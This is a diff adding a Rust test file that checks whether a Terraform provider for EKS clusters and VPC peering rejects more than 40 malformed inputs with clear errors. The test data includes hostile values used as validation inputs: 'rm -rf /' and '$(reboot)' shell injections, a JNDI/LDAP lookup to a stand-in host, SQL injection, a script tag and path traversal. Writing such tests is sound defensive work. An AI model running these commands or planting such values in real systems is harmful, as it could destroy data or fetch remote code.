@@ -1,0 +1,560 @@
+//! Hostile and bad input: a catalogue of configurations across the provider
+//! block and every resource (bad CIDRs, regions, ARNs, ids, sizes; unicode,
+//! shell and template injection in names and tags). Each is run through a
+//! real `terraform apply`: it must fail with an error naming the attribute
+//! and saying how to fix it, and moto must hold nothing new afterwards.
+//!
+//! A line `FAULT-FIGURES bad-inputs=N` on stderr is the README's figure.
+
+use anyhow::Result;
+use eksfleet_tests::*;
+
+const PROVIDER_OK: &str = "region = \"us-east-1\"";
+
+/// A peering between two well-formed ids: only the provider block is bad.
+const SOME_PEERING: &str = r#"resource "fleet_vpc_cross_region_peering" "p" {
+  requester = { region = "us-west-2", vpc_id = "vpc-0a1b2c3d" }
+  accepter  = { vpc_id = "vpc-0d3c2b1a" }
+}"#;
+
+fn config(provider: &str, resources: &str) -> String {
+    format!(
+        "terraform {{\n  required_providers {{\n    fleet = {{ source = \"eksfleet/fleet\" }}\n  }}\n}}\n\
+         provider \"fleet\" {{\n{provider}\n}}\n{resources}\n"
+    )
+}
+
+fn cluster(body: &str) -> String {
+    let mut lines = vec![("name", "\"edge\""), ("vpc_cidr", "\"10.0.0.0/16\"")];
+    // A case that sets name or vpc_cidr replaces the default.
+    lines.retain(|(key, _)| !body.lines().any(|l| l.trim_start().starts_with(&format!("{key} "))));
+    let defaults: String = lines.iter().map(|(k, v)| format!("  {k} = {v}\n")).collect();
+    format!("resource \"fleet_eks_regional_cluster\" \"c\" {{\n{defaults}{body}\n}}")
+}
+
+fn peering(requester: &str, accepter: &str, extra: &str) -> String {
+    format!(
+        "resource \"fleet_vpc_cross_region_peering\" \"p\" {{\n  requester = {{ {requester} }}\n  accepter  = {{ {accepter} }}\n{extra}\n}}"
+    )
+}
+
+fn accepter(body: &str) -> String {
+    format!("resource \"fleet_vpc_peering_accepter\" \"a\" {{\n{body}\n}}")
+}
+
+struct Case {
+    what: &'static str,
+    provider: String,
+    resources: String,
+    /// The attribute the error must name, then the phrase saying what to do.
+    attribute: &'static str,
+    fix: &'static str,
+}
+
+fn provider_case(what: &'static str, provider: &str, attribute: &'static str, fix: &'static str) -> Case {
+    Case {
+        what,
+        provider: provider.to_string(),
+        resources: SOME_PEERING.to_string(),
+        attribute,
+        fix,
+    }
+}
+
+fn resource_case(what: &'static str, resources: String, attribute: &'static str, fix: &'static str) -> Case {
+    Case {
+        what,
+        provider: PROVIDER_OK.to_string(),
+        resources,
+        attribute,
+        fix,
+    }
+}
+
+fn catalogue() -> Vec<Case> {
+    let long = "x".repeat(300);
+    let long_key = "k".repeat(129);
+    let rq = |vpc: &str| format!("region = \"us-west-2\", vpc_id = \"{vpc}\"");
+    let ac = "vpc_id = \"vpc-0d3c2b1a\"";
+    let c = resource_case;
+    let mut cases = vec![
+        // ----- the provider block -----
+        provider_case(
+            "unknown region",
+            "region = \"us-east-9\"",
+            "region",
+            "is not an AWS region",
+        ),
+        provider_case(
+            "region in capitals",
+            "region = \"US-EAST-1\"",
+            "region",
+            "Did you mean \"us-east-1\"?",
+        ),
+        provider_case(
+            "negative retries",
+            "region = \"us-east-1\"\nmax_retries = -1",
+            "max_retries",
+            "use a whole number from 0 to 100",
+        ),
+        provider_case(
+            "huge retries",
+            "region = \"us-east-1\"\nmax_retries = 1e9",
+            "max_retries",
+            "use a whole number from 0 to 100",
+        ),
+        provider_case(
+            "fractional retries",
+            "region = \"us-east-1\"\nmax_retries = 2.5",
+            "max_retries",
+            "use a whole number from 0 to 100",
+        ),
+        provider_case(
+            "assume_role with a user ARN",
+            "region = \"us-east-1\"\nassume_role = { role_arn = \"arn:aws:iam::123456789012:user/bob\" }",
+            "assume_role.role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+        provider_case(
+            "assume_role with a short account",
+            "region = \"us-east-1\"\nassume_role = { role_arn = \"arn:aws:iam::1234:role/x\" }",
+            "assume_role.role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+        provider_case(
+            "endpoint that isn't a URL",
+            "region = \"us-east-1\"\nendpoints = { ec2 = \"localhost; rm -rf /\" }",
+            "endpoints.ec2",
+            "use a full URL",
+        ),
+        provider_case(
+            "default tag key AWS reserves",
+            "region = \"us-east-1\"\ndefault_tags = { \"aws:createdBy\" = \"me\" }",
+            "default_tags",
+            "tag keys starting with \"aws:\" are reserved",
+        ),
+        provider_case(
+            "shell injection in a default tag",
+            "region = \"us-east-1\"\ndefault_tags = { Team = \"ops\\\"; rm -rf / #\" }",
+            "default_tags",
+            "may hold only letters, digits, spaces",
+        ),
+        // ----- fleet_eks_regional_cluster -----
+        c(
+            "CIDR prefix over 32",
+            cluster("  vpc_cidr = \"10.0.0.0/33\""),
+            "vpc_cidr",
+            "is not an IPv4 CIDR block",
+        ),
+        c(
+            "CIDR octet over 255",
+            cluster("  vpc_cidr = \"300.0.0.0/16\""),
+            "vpc_cidr",
+            "is not an IPv4 CIDR block",
+        ),
+        c(
+            "IPv6 CIDR",
+            cluster("  vpc_cidr = \"fd00::/8\""),
+            "vpc_cidr",
+            "is not an IPv4 CIDR block",
+        ),
+        c(
+            "CIDR too small",
+            cluster("  vpc_cidr = \"10.0.0.0/26\""),
+            "vpc_cidr",
+            "too small",
+        ),
+        c(
+            "CIDR with host bits",
+            cluster("  vpc_cidr = \"10.0.0.1/16\""),
+            "vpc_cidr",
+            "did you mean \"10.0.0.0/16\"",
+        ),
+        c(
+            "empty name",
+            cluster("  name = \"\""),
+            "name",
+            "use 1 to 38 ASCII letters",
+        ),
+        c(
+            "shell injection in the name",
+            cluster("  name = \"edge;rm -rf /\""),
+            "name",
+            "use 1 to 38 ASCII letters",
+        ),
+        c(
+            "unicode name",
+            cluster("  name = \"ëdge-κλ\""),
+            "name",
+            "use 1 to 38 ASCII letters",
+        ),
+        c(
+            "template injection in the name",
+            cluster("  name = \"$${jndi:ldap://evil/x}\""),
+            "name",
+            "use 1 to 38 ASCII letters",
+        ),
+        c(
+            "name too long for the role names",
+            cluster("  name = \"a-very-long-cluster-name-for-iam-roles-x\""),
+            "name",
+            "use 1 to 38 ASCII letters",
+        ),
+        c(
+            "unknown region",
+            cluster("  region = \"mars-north-1\""),
+            "region",
+            "is not an AWS region",
+        ),
+        c(
+            "a zone as the region",
+            cluster("  region = \"us-east-1a\""),
+            "region",
+            "is not an AWS region",
+        ),
+        c(
+            "unsupported Kubernetes version",
+            cluster("  kubernetes_version = \"1.99\""),
+            "kubernetes_version",
+            "not a supported EKS version",
+        ),
+        c(
+            "zero zones",
+            cluster("  availability_zone_count = 0"),
+            "availability_zone_count",
+            "use a whole number from 1 to 6",
+        ),
+        c(
+            "too many zones",
+            cluster("  availability_zone_count = 7"),
+            "availability_zone_count",
+            "use a whole number from 1 to 6",
+        ),
+        c(
+            "NAT mode",
+            cluster("  nat_gateway_mode = \"NAT\""),
+            "nat_gateway_mode",
+            "use one of \"single\", \"one_per_az\", \"none\"",
+        ),
+        c(
+            "negative min_size",
+            cluster("  node_groups = { a = { min_size = -1 } }"),
+            "node_groups[\"a\"].min_size",
+            "use a whole number from 0 to 1000",
+        ),
+        c(
+            "huge max_size",
+            cluster("  node_groups = { a = { max_size = 1000000 } }"),
+            "node_groups[\"a\"].max_size",
+            "use a whole number from 1 to 1000",
+        ),
+        c(
+            "fractional desired_size",
+            cluster("  node_groups = { a = { desired_size = 1.5 } }"),
+            "node_groups[\"a\"].desired_size",
+            "use a whole number from 0 to 1000",
+        ),
+        c(
+            "zero disk",
+            cluster("  node_groups = { a = { disk_size = 0 } }"),
+            "node_groups[\"a\"].disk_size",
+            "use a whole number from 1 to 16384",
+        ),
+        c(
+            "capacity type",
+            cluster("  node_groups = { a = { capacity_type = \"CHEAP\" } }"),
+            "node_groups[\"a\"].capacity_type",
+            "use one of \"ON_DEMAND\", \"SPOT\"",
+        ),
+        c(
+            "node group name with spaces and punctuation",
+            cluster("  node_groups = { \"bad name!\" = {} }"),
+            "node_groups",
+            "use 1 to 63 letters, digits",
+        ),
+        c(
+            "injection in an instance type",
+            cluster("  node_groups = { a = { instance_types = [\"m5.large;reboot\"] } }"),
+            "instance_types",
+            "not an EC2 instance type",
+        ),
+        c(
+            "taint effect in Kubernetes spelling",
+            cluster("  node_groups = { a = { taints = [{ key = \"k\", value = \"v\", effect = \"NoSchedule\" }] } }"),
+            "effect",
+            "use NO_SCHEDULE, NO_EXECUTE or PREFER_NO_SCHEDULE",
+        ),
+        c(
+            "bad API CIDR",
+            cluster("  api_allowed_cidrs = [\"0.0.0.0/99\"]"),
+            "api_allowed_cidrs",
+            "is not an IPv4 CIDR block",
+        ),
+        c(
+            "bare address as a public access CIDR",
+            cluster("  public_access_cidrs = [\"203.0.113.7\"]"),
+            "public_access_cidrs",
+            "is not an IPv4 CIDR block",
+        ),
+        c(
+            "log type",
+            cluster("  enabled_log_types = [\"everything\"]"),
+            "enabled_log_types",
+            "use one of",
+        ),
+        c(
+            "policy ARN as the cluster role",
+            cluster("  cluster_role_arn = \"arn:aws:iam::123456789012:policy/x\""),
+            "cluster_role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+        c(
+            "role name as the node role",
+            cluster("  node_role_arn = \"eks-node\""),
+            "node_role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+        c(
+            "KMS key in another region",
+            cluster("  secrets_kms_key_arn = \"arn:aws:kms:eu-west-1:123456789012:key/abc\""),
+            "secrets_kms_key_arn",
+            "in eu-west-1 but the cluster is in us-east-1",
+        ),
+        c(
+            "malformed KMS key",
+            cluster("  secrets_kms_key_arn = \"alias/my-key\""),
+            "secrets_kms_key_arn",
+            "is not a KMS key ARN (arn:aws:kms:REGION:ACCOUNT:key/ID)",
+        ),
+        c(
+            "path traversal as an add-on name",
+            cluster("  addons = { \"../../clusters\" = {} }"),
+            "addons",
+            "use lowercase letters, digits, '-' or '_'",
+        ),
+        c(
+            "add-on configuration that isn't JSON",
+            cluster("  addons = { coredns = { configuration_values = \"{replicaCount: 3\" } }"),
+            "configuration_values",
+            "use jsonencode",
+        ),
+        c(
+            "account root as an access entry",
+            cluster("  access_entries = { \"arn:aws:iam::123456789012:root\" = {} }"),
+            "access_entries",
+            "is not an IAM role or user ARN",
+        ),
+        c(
+            "namespace scope without namespaces",
+            cluster(
+                "  access_entries = { \"arn:aws:iam::123456789012:role/dev\" = { policies = { \"arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy\" = { scope = \"namespace\" } } } }",
+            ),
+            "namespaces",
+            "needs at least one namespace",
+        ),
+        c(
+            "markup in a tag key",
+            cluster("  tags = { \"<script>alert(1)</script>\" = \"x\" }"),
+            "tags",
+            "may hold only letters, digits, spaces",
+        ),
+        c(
+            "emoji tag key",
+            cluster("  tags = { \"🔥\" = \"hot\" }"),
+            "tags",
+            "may hold only letters, digits, spaces",
+        ),
+        c(
+            "newline in a tag value",
+            cluster("  tags = { Team = \"ops\\nInjected: yes\" }"),
+            "tags",
+            "may hold only letters, digits, spaces",
+        ),
+        c(
+            "tag key the provider reserves",
+            cluster("  tags = { \"eksfleet:owner\" = \"someone-else\" }"),
+            "tags",
+            "tag keys starting with \"eksfleet:\" are reserved",
+        ),
+        c(
+            "duration without a unit",
+            cluster("  timeouts { create = \"30\" }"),
+            "timeouts.create",
+            "use a number with a unit",
+        ),
+        c(
+            "negative duration",
+            cluster("  timeouts { delete = \"-5m\" }"),
+            "timeouts.delete",
+            "use a number with a unit",
+        ),
+        // ----- fleet_vpc_cross_region_peering -----
+        c(
+            "short VPC id",
+            peering(&rq("vpc-123"), ac, ""),
+            "requester.vpc_id",
+            "followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "SQL in a VPC id",
+            peering(&rq("vpc-0a1b2c3d' OR '1'='1"), ac, ""),
+            "requester.vpc_id",
+            "followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "subnet id as the accepter VPC",
+            peering(&rq("vpc-0a1b2c3d"), "vpc_id = \"subnet-0a1b2c3d\"", ""),
+            "accepter.vpc_id",
+            "followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "route table id in capitals",
+            peering(
+                "region = \"us-west-2\", vpc_id = \"vpc-0a1b2c3d\", route_table_ids = [\"rtb-0A1B2C3D\"]",
+                ac,
+                "",
+            ),
+            "requester.route_table_ids",
+            "followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "typo in a region",
+            peering("region = \"eu-wset-1\", vpc_id = \"vpc-0a1b2c3d\"", ac, ""),
+            "requester.region",
+            "Did you mean \"eu-west-1\"?",
+        ),
+        c(
+            "account id with letters",
+            peering(
+                &rq("vpc-0a1b2c3d"),
+                "vpc_id = \"vpc-0d3c2b1a\", account_id = \"12345678901x\"",
+                "",
+            ),
+            "accepter.account_id",
+            "expected exactly 12 digits",
+        ),
+        c(
+            "accepter role without a name",
+            peering(
+                &rq("vpc-0a1b2c3d"),
+                "vpc_id = \"vpc-0d3c2b1a\", assume_role_arn = \"arn:aws:iam::123456789012:role\"",
+                "",
+            ),
+            "accepter.assume_role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+        c(
+            "the same VPC on both sides",
+            peering(
+                "region = \"us-east-1\", vpc_id = \"vpc-0a1b2c3d\"",
+                "vpc_id = \"vpc-0a1b2c3d\"",
+                "",
+            ),
+            "accepter.vpc_id",
+            "Requester and accepter are the same VPC",
+        ),
+        c(
+            "oversized tag value on a peering",
+            peering(&rq("vpc-0a1b2c3d"), ac, &format!("  tags = {{ Note = \"{long}\" }}")),
+            "tags",
+            "must be at most 256 characters",
+        ),
+        c(
+            "oversized tag key on a peering",
+            peering(
+                &rq("vpc-0a1b2c3d"),
+                ac,
+                &format!("  tags = {{ \"{long_key}\" = \"x\" }}"),
+            ),
+            "tags",
+            "must be 1 to 128 characters",
+        ),
+        c(
+            "peering timeout in words",
+            peering(&rq("vpc-0a1b2c3d"), ac, "  timeouts { create = \"ten minutes\" }"),
+            "timeouts.create",
+            "use a number with a unit",
+        ),
+        // ----- fleet_vpc_peering_accepter -----
+        c(
+            "peering id with the wrong prefix",
+            accepter("  peering_id = \"vpc-0a1b2c3d\""),
+            "peering_id",
+            "expected \"pcx-\" followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "command substitution in a peering id",
+            accepter("  peering_id = \"pcx-$(reboot)\""),
+            "peering_id",
+            "expected \"pcx-\" followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "accepter in no region",
+            accepter("  peering_id = \"pcx-0a1b2c3d\"\n  region = \"global\""),
+            "region",
+            "is not an AWS region",
+        ),
+        c(
+            "accepter route table id too long",
+            accepter("  peering_id = \"pcx-0a1b2c3d\"\n  route_table_ids = [\"rtb-0a1b2c3d4e5f6a7b8c9\"]"),
+            "route_table_ids",
+            "followed by 8 or 17 lowercase hex digits",
+        ),
+        c(
+            "accepter role from another partition's service",
+            accepter(
+                "  peering_id = \"pcx-0a1b2c3d\"\n  assume_role_arn = \"arn:aws:sts::123456789012:assumed-role/x/y\"",
+            ),
+            "assume_role_arn",
+            "expected \"arn:aws:iam::ACCOUNT_ID:role/NAME\"",
+        ),
+    ];
+    let mut seen = std::collections::BTreeSet::new();
+    cases.retain(|case| seen.insert(case.what));
+    cases
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_bad_input_fails_naming_its_attribute_and_creates_nothing() -> Result<()> {
+    let moto = Moto::start()?;
+    let regions = ["us-east-1", "us-west-2", "eu-west-1"];
+    let before = inventory(&moto, &regions).await?;
+    let cases = catalogue();
+    assert!(cases.len() >= 40, "the catalogue covers at least 40 bad inputs");
+    let mut failures = Vec::new();
+    for case in &cases {
+        let ws = Workspace::new(&moto, &config(&case.provider, &case.resources))?;
+        // apply, not plan: a check that is missing would create objects here.
+        let run = ws.terraform(&["apply", "-auto-approve", "-no-color"])?;
+        let problems: Vec<&str> = [
+            (run.code != 1).then_some("exit code is not 1"),
+            (!run.says(case.attribute)).then_some("the attribute is not named"),
+            (!run.says(case.fix)).then_some("the fix is not said"),
+            (run.output().contains("panicked") || run.says("plugin crashed")).then_some("the provider crashed"),
+        ]
+        .into_iter()
+        .flatten()
+        .collect();
+        if !problems.is_empty() {
+            failures.push(format!(
+                "{}: {} (want {:?} and {:?})\n{}",
+                case.what,
+                problems.join(", "),
+                case.attribute,
+                case.fix,
+                run.output()
+            ));
+        }
+    }
+    eprintln!("FAULT-FIGURES bad-inputs={}", cases.len());
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n---\n")
+    );
+    let left = orphans(&before, &inventory(&moto, &regions).await?);
+    assert!(left.is_empty(), "bad input created objects: {left:#?}");
+    Ok(())
+}
